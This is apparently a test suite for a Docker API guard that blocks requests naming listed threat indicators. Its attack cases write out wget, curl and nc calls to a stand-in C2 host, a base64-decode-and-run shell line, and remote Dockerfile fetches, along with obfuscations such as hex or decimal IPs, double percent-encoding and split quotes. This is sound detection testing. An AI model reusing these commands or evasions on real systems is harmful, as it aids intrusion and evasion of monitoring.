import t from 'tap';
import { gzipSync } from 'node:zlib';
import { HAZARDS } from '../../src/hazards/catalogue.js';
import { talk, type RawTarget } from '../support/raw.js';
import { END, file, symlink, tar, type TarEntry } from '../support/tar.js';
import { ping, startGuarded, type AuditLine } from './guarded.js';

// Indicators in real requests: nothing of a call that names one takes effect, in whatever spelling; what only looks
// like one passes; what only alerts passes and is on record.

const NAME = 'c2.evil.example';
const HOST = '198.51.100.66';
const SHARED = 'shared.example/dock/main.sh';
const MD5 = 'd41d8cd98f00b204e9800998ecf84000';
const PERMITTED = 'permitted.evil.example';
const MALWARE = Buffer.from('\x7fELF\0malware');
const SHA256 = '0f8b8a1b7c2f14c5a1b64f0f2c0de4b0c0ffee00c0ffee00c0ffee00c0ffee00';
const b64 = (text: string): string => Buffer.from(text).toString('base64');

const LISTED = [NAME, PERMITTED, HOST, '127.0.0.66', `https://${SHARED}`, MD5, SHA256];
const LATER = 'later.evil.example';

/** Everything but indicators and what was not searched, so that nothing else stops a call. */
const permit = [
  ...HAZARDS.filter(({ kind }) => kind !== 'indicator' && kind !== 'opaque').map(({ kind, argument }) =>
    argument === 'none' ? kind : argument === 'path' ? `${kind}:/**` : `${kind}:**`,
  ),
  ...['opaque:buildkit', 'opaque:context', 'opaque:dockerfile', 'opaque:command', 'opaque:plugin'],
  `indicator:${PERMITTED}`,
];
const POLICY = {
  sources: { tcp: { listener: ['tcp'] }, unix: { listener: ['unix'] } },
  rules: [
    { id: 'all', sources: ['tcp'], operations: ['*'], permit },
    { id: 'ping', sources: ['*'], operations: ['SystemPing'] },
    {
      id: 'relabel',
      sources: ['unix'],
      operations: ['ContainerCreate'],
      permit,
      rewrite: { labels: { by: NAME } },
    },
  ],
};
const guarded = await startGuarded({ policy: POLICY, feed: LISTED });
t.teardown(() => guarded.close());

interface Request {
  readonly line: string;
  readonly headers?: readonly string[];
  /** Bytes are a tar archive, a string is JSON as it stands. */
  readonly body?: Buffer | string | Readonly<Record<string, unknown>>;
}

function bytesOf({ line, headers = [], body }: Request): Buffer {
  const head = [`${line} HTTP/1.1`, 'Host: docker', ...headers];
  const data = typeof body === 'object' && !Buffer.isBuffer(body) ? JSON.stringify(body) : (body ?? '');
  if (body !== undefined) head.push(`Content-Type: application/${Buffer.isBuffer(body) ? 'x-tar' : 'json'}`);
  if (!line.startsWith('GET ')) head.push(`Content-Length: ${Buffer.byteLength(data)}`);
  return Buffer.concat([Buffer.from(`${head.join('\r\n')}\r\n\r\n`), Buffer.from(data)]);
}

interface Outcome {
  readonly status: number;
  readonly message: string;
  readonly line: AuditLine | undefined;
}

async function ask(request: Request, target: RawTarget = guarded.tcp, of = guarded): Promise<Outcome> {
  of.upstream.forget();
  of.audit();
  const { answers } = await talk(target, [bytesOf(request)], { linger: 0 });
  // The guard is alive, and what it passed on before this has been sent.
  await ping(of.tcp);
  const line = of.audit().find(({ event, operation }) => event === 'decision' && operation !== 'SystemPing');
  return { status: answers[0]?.status ?? 0, message: answers[0]?.body.toString() ?? '', line };
}

/** What took effect on the engine: a build without the end of its archive builds nothing. */
const effects = ({ upstream } = guarded): string[] =>
  upstream.requests
    .filter(({ call, complete, body }) => call !== 'GET /_ping' && (complete || body.includes(END)))
    .map(({ call }) => call);

const create = (HostConfig: object, more: object = {}): Request => ({
  line: 'POST /v1.41/containers/create',
  body: { Image: 'alpine', ...more, HostConfig },
});
const run = (...Cmd: string[]): Request => create({}, { Cmd });
const post = (target: string, body: Readonly<Record<string, unknown>> = {}): Request => ({
  line: `POST /v1.41${target}`,
  body,
});
const build = (context: Buffer, query = ''): Request => ({
  line: `POST /v1.41/build?t=x${query}`,
  body: context,
});
const dockerfile = (text: string, query = ''): Request => build(tar(file('Dockerfile', text)), query);
const step = (text: string): Request => dockerfile(`FROM alpine\n${text}\n`);
const context = (...entries: readonly TarEntry[]): Request =>
  build(tar(file('Dockerfile', 'FROM alpine\n'), ...entries));

/** A name, the request, and the indicator, by default the domain. */
const ATTACKS: readonly (readonly [string, Request, string?])[] = [
  ['a pull', { line: `POST /v1.41/images/create?fromImage=${NAME}%2Fapp&tag=1` }],
  [
    'a pull, the registry in capitals',
    { line: 'POST /v1.41/images/create?fromImage=C2.Evil.Example%2Fapp&tag=1' },
  ],
  [
    'a pull, the registry a number',
    { line: 'POST /v1.41/images/create?fromImage=3325256770:5000/app&tag=1' },
    HOST,
  ],
  ['a push', { line: `POST /v1.41/images/${NAME}/app/push`, headers: ['X-Registry-Auth: e30='] }],
  [
    'credentials for another registry',
    {
      line: 'POST /v1.41/images/create?fromImage=alpine&tag=1',
      headers: [`X-Registry-Auth: ${b64(`{"serveraddress":"https://${NAME}/v1/"}`)}`],
    },
  ],
  [
    'credentials of a build',
    {
      ...dockerfile('FROM alpine\n'),
      headers: [`X-Registry-Config: ${b64(`{"${HOST}:5000":{"username":"a","password":"b"}}`)}`],
    },
    HOST,
  ],
  ['a question to a registry', { line: `GET /v1.41/distribution/${HOST}:8066/x:1/json` }, HOST],
  ['a search', { line: `GET /v1.41/images/search?term=${NAME}/x` }],
  ['an import', { line: `POST /v1.41/images/create?fromSrc=http://${HOST}/i.tar` }, HOST],
  ['a remote context', { line: `POST /v1.41/build?remote=http%3A%2F%2F${NAME}%2Fx.git` }],
  [
    'a remote context in hexadecimal',
    { line: 'POST /v1.41/build?remote=http://0xc6.0x33.0x64.0x42/x.git' },
    HOST,
  ],
  ['a listed URL', { line: `POST /v1.41/build?remote=https://shared.example:443/%64ock/./main.sh` }, SHARED],
  ['a name', { line: `POST /v1.41/containers/create?name=${NAME}`, body: { Image: 'alpine' } }],
  ['a rename', { line: `POST /v1.41/containers/abc/rename?name=${NAME}` }],
  ['a command', run('wget', `http://${NAME}/x`)],
  [
    'a command, a JSON escape in it',
    {
      line: 'POST /v1.41/containers/create',
      body: '{"Image":"alpine","Cmd":["wget","http:\\/\\/c2\\u002eevil.example"]}',
    },
  ],
  ['percent-encoded twice', run('curl', 'http%253A%252F%252Fc2%252Eevil%252Eexample')],
  ['base64', run('sh', '-c', `echo ${b64(`wget http://${NAME}/x`)} | base64 -d | sh`)],
  ['quotes', run('sh', '-c', `wget 198.51."".100.66 || wget 198.51.""100.66`), HOST],
  ['the environment', create({}, { Env: ['A=c2.evil', 'B=example'], Cmd: ['sh', '-c', 'wget $A.$B'] })],
  ['a hash', run('sh', '-c', `md5sum -c <<< "${MD5}  x"`), MD5],
  ['an image by its digest', create({}, { Image: `app@sha256:${SHA256}` }), SHA256],
  ['a label', create({}, { Labels: { url: `https://u:p@${NAME}/` } })],
  ['an extra host', create({ ExtraHosts: ['registry.ci.example:127.0.0.66'] }), '127.0.0.66'],
  ['a resolver', create({ Dns: [HOST] }), HOST],
  ['a resolver as a number', create({ Dns: ['3325256770'] }), HOST],
  [
    'a log endpoint',
    create({ LogConfig: { Type: 'gelf', Config: { 'gelf-address': `udp://${NAME}:12201` } } }),
  ],
  [
    'an NFS server',
    create({
      Mounts: [
        {
          Type: 'volume',
          Target: '/h',
          VolumeOptions: {
            DriverConfig: { Name: 'local', Options: { type: 'nfs', o: 'addr=127.0.0.66', device: ':/x' } },
          },
        },
      ],
    }),
    '127.0.0.66',
  ],
  ['a health check', create({}, { Healthcheck: { Test: ['CMD-SHELL', `curl ${NAME}`] } })],
  ['an exec', post('/containers/abc/exec', { Cmd: ['nc', HOST, '443'] }), HOST],
  ['an exec, numeric', post('/containers/abc/exec', { Cmd: ['nc', '0xC6336442', '443'] }), HOST],
  [
    'a volume',
    post('/volumes/create', { Name: 'v', DriverOpts: { device: `//${HOST}/share`, type: 'cifs' } }),
    HOST,
  ],
  ['a network', post('/networks/create', { Name: 'n', Options: { 'com.example.remote': NAME } })],
  ['a swarm', post('/swarm/join', { RemoteAddrs: [`${HOST}:2377`], JoinToken: 'x' }), HOST],
  [
    'a service',
    post('/services/create', {
      Name: 's',
      TaskTemplate: { ContainerSpec: { Image: 'alpine', Hosts: [`${HOST} a`] } },
    }),
    HOST,
  ],
  ['a config', post('/configs/create', { Name: 'c', Data: b64(`server ${NAME};\n`) })],
  ['a login', post('/auth', { username: 'a', password: 'b', serveraddress: NAME })],
  ['a plugin', { line: `POST /v1.41/plugins/pull?remote=${NAME}/p:1`, body: '[]' }],
  ['ADD', step(`ADD http://${NAME}/p.sh /`)],
  ['ADD, IPv4 in IPv6', step('ADD http://[::ffff:127.0.0.66]:8066/p.sh /'), '127.0.0.66'],
  [
    'ADD, dots that are not ASCII',
    step('ADD http://127%E3%80%820%E3%80%820%E3%80%8266:8066/p.sh /'),
    '127.0.0.66',
  ],
  ['RUN, continued', step('RUN wget http://c2.ev\\\nil.example/p.sh')],
  ['RUN, a comment between', step(`RUN echo a\\\n  # ${NAME}\nb`)],
  [
    'RUN, ARG by the call',
    dockerfile('FROM alpine\nARG H\nRUN wget $H.example\n', '&buildargs=%7B%22H%22%3A%22c2.evil%22%7D'),
  ],
  [
    'a build argument, JSON-escaped',
    dockerfile(
      'FROM alpine\n',
      '&buildargs=%7B%22HTTP_PROXY%22%3A%22http%3A%5C%2F%5C%2Fc2%5Cu002eevil.example%3A3128%22%7D',
    ),
  ],
  [
    'an extra host of a build',
    dockerfile('FROM alpine\n', '&extrahosts=registry.ci.example%3A127.0.0.66'),
    '127.0.0.66',
  ],
  ['FROM of several stages', dockerfile(`ARG A=c2.evil\nFROM alpine AS a\nFROM $A.example/x\n`)],
  ['a script of the context', context(file('dock/main.sh', `wget http://${HOST}/x`)), HOST],
  [
    'a script of the context, compressed',
    build(gzipSync(tar(file('Dockerfile', 'FROM alpine\n'), file('main.sh', `wget c2.e''vil.example`)))),
  ],
  ['a file of the context by its name', context(file(`t/${NAME}`, '1'))],
  ['a link of the context', context(symlink('l', `t/${NAME}`))],
  ['far into a large file', context(file('big.txt', `${'some text '.repeat(20_000)}${NAME}\n`))],
];

for (const [name, request, value = NAME] of ATTACKS) {
  await t.test(`${name}: ${request.line.slice(0, 60)}`, async (t) => {
    const { status, message, line } = await ask(request);
    t.equal(status, 403, `denied: ${message}`);
    t.match(message, `indicator:${value}`, 'the message names it');
    t.match(message, / \(listed by feed \S+, found in [^)]/, 'and who lists it, and where it stood');
    t.same(effects(), [], 'nothing took effect');
    t.equal(line?.code, 'hazard');
    t.ok(line?.hazards.includes(`indicator:${value}`), 'the hazard is on record');
    t.match(
      line?.indicators?.find(({ indicator }) => indicator === value),
      { indicator: value, feed: 'c2', confidence: 90, action: 'block', where: /./ },
      'with its feed and its place',
    );
  });
}

const HONEST: readonly (readonly [string, Request])[] = [
  ['another address', run('ping', '198.51.100.67')],
  ['a longer address', run('echo', '198.51.100.661')],
  ['a version', run('apk', 'add', 'curl=1.2.3.4-r5')],
  ['a domain that ends in the same letters', run('curl', `http://no${NAME}/`)],
  ['a domain that begins with it', run('curl', `http://${NAME}.org/`)],
  ['scripts', run('sh', 'install.sh', './setup.py', 'main.rs')],
  ['the container itself', create({}, { Env: ['U=127.0.0.1'] })],
  ['another path', step('ADD https://shared.example/dock/other.sh /')],
  ['a numeric user', create({}, { User: '3325256770' })],
  ['another digest', create({}, { Image: `app@sha256:${SHA256.replace('0f', '1f')}` })],
  ['a context without any', context(file('a.sh', 'wget https://files.example.org/x\n'), file('b', MALWARE))],
  ['what is permitted', run('wget', `http://a.${PERMITTED}/x`)],
];

for (const [name, request] of HONEST) {
  await t.test(`passes: ${name}`, async (t) => {
    const { status, message, line } = await ask(request);
    t.equal(status, 200, message);
    t.equal(effects().length, 1, 'it reached the engine');
    t.equal(line?.verdict, 'allow');
    t.equal(line?.indicators !== undefined, name === 'what is permitted', 'on record where one was found');
  });
}

await t.test('what only alerts passes and is on record', async (t) => {
  const alerting = await startGuarded({ policy: POLICY, feed: [NAME], feedAction: 'alert' });
  t.teardown(() => alerting.close());
  for (const [request, where] of [
    [run('curl', NAME), '/Cmd/1'],
    [step(`RUN curl ${NAME}`), 'Dockerfile line 2'],
    [context(file('a.txt', NAME)), 'context file a.txt'],
  ] as const) {
    const { status, line } = await ask(request, alerting.tcp, alerting);
    t.equal(status, 200);
    t.equal(effects(alerting).length, 1, 'it reached the engine');
    t.same(
      line?.hazards.filter((hazard) => hazard.startsWith('indicator')),
      [],
    );
    t.ok(
      line?.indicators?.some((one) => one['action'] === 'alert' && one['where'] === where),
      where,
    );
  }
});

await t.test('what a rule writes into the call is judged too', async (t) => {
  const { status, message } = await ask(run('true'), guarded.unix);
  t.equal(status, 403);
  t.match(message, `indicator:${NAME}`);
  t.same(effects(), []);
});

await t.test('one state of the feeds for the whole of a build', async (t) => {
  guarded.upstream.forget();
  const request = bytesOf(context(file('a.txt', LATER)));
  const middle = request.length - 600;
  // The engine sees the head of a build while the rest of its context is still on the way.
  let listed: Promise<void> | undefined;
  guarded.upstream.onHead = () => {
    listed ??= guarded.list([...LISTED, LATER]);
    return false;
  };
  const parts = [request.subarray(0, middle), 500, request.subarray(middle)];
  const { answers } = await talk(guarded.tcp, parts, { linger: 0 });
  guarded.upstream.onHead = undefined;
  await listed;
  t.equal(answers[0]?.status, 200, 'what was listed in between changes nothing for it');
  t.equal((await ask(run('curl', LATER))).status, 403, 'the next call sees it');
});

await t.test('many indicators: the line stays bounded', async (t) => {
  const Labels = Object.fromEntries(Array.from({ length: 120 }, (_, n) => [`k${n}`, NAME]));
  const { line } = await ask(create({}, { Labels }));
  t.equal(line?.indicators?.length, 50);
  t.equal(line?.indicatorCount, 120);
});

await t.test('what cannot be searched to its end is opaque', async (t) => {
  let deep = `wget http://${NAME}/x`;
  for (let level = 0; level < 6; level++) deep = b64(deep);
  const { status, message } = await ask(run('sh', '-c', deep));
  t.equal(status, 403);
  t.match(message, 'opaque:text');
});
